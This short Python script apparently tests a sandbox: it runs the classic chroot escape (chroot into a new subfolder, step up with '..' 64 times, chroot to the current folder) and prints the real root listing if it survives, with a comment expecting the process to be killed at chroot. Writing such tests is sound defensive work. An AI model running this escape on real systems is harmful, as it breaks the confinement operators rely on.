# The classic way out of a chroot: chroot below the working folder, then upward. Killed at chroot.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

import os
os.mkdir('d')
libc.chroot(b'd')
for _ in range(64): os.chdir('..')
libc.chroot(b'.')
print('SURVIVED', os.listdir('/'))
